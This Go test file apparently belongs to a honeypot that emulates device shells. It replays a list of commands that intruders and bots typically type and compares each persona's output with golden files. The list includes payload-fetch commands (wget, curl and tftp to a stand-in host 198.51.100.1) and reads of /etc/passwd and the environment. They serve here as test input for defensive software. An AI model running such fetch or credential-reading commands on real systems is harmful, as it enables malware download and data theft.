package shell

import (
	"flag"
	"os"
	"strings"
	"testing"

	"forager/pots/persona"
)

var update = flag.Bool("update", false, "write the golden files anew")

// looks is what people and bots type to learn where they are.
var looks = []string{
	"uname -a", "id", "cat /proc/cpuinfo", "cat /proc/version", "cat /proc/mounts", "free", "free -m", "uptime", "w", "who", "df", "df -h",
	"ps", "ps aux | head -5", "ps -ef | head -5", "ls -la /", "ls /bin", "ls -l /dev/null /bin/sh", "ifconfig", "ip addr", "ip route", "route -n", "netstat -tln",
	"lsmod", "mount", "env", "busybox", "busybox NOPE", "nope", "wget http://198.51.100.1/a", "curl -O http://198.51.100.1/a",
	"tftp -g -r a 198.51.100.1", "cat /nope", "cd /nope", "chmod +x nope", "cp", "crontab -l", "date", "dmesg | head -3", "arp -a", "nproc", "cat /etc/passwd",
	"head -c 20 /bin/ls | od", "top -bn1 | head -5", "which wget curl python perl", "history | tail -1", "help | head -2", "kill 1234567", "ping -c 1 198.51.100.1",
}

// TestGolden: what each device shows.
func TestGolden(t *testing.T) {
	for _, name := range persona.Names() {
		s := open(t, name)
		var b strings.Builder
		for _, l := range looks {
			b.WriteString(s.Prompt() + l + "\n" + s.run(l))
		}
		path := "testdata/golden/" + name + ".txt"
		if *update {
			if err := os.WriteFile(path, []byte(b.String()), 0o644); err != nil {
				t.Fatal(err)
			}
		}
		want, err := os.ReadFile(path)
		if err != nil {
			t.Fatal(err)
		}
		if got := b.String(); got != string(want) {
			t.Errorf("%s differs (-update writes it anew): %s", path, firstDifference(got, string(want)))
		}
	}
}

func firstDifference(got, want string) string {
	g, w := strings.Split(got, "\n"), strings.Split(want, "\n")
	for i := range g {
		if i >= len(w) || g[i] != w[i] {
			return "got " + g[i] + "\nwant " + strings.Join(w[min(i, len(w)):min(i+1, len(w))], "")
		}
	}
	return "it ends too soon"
}
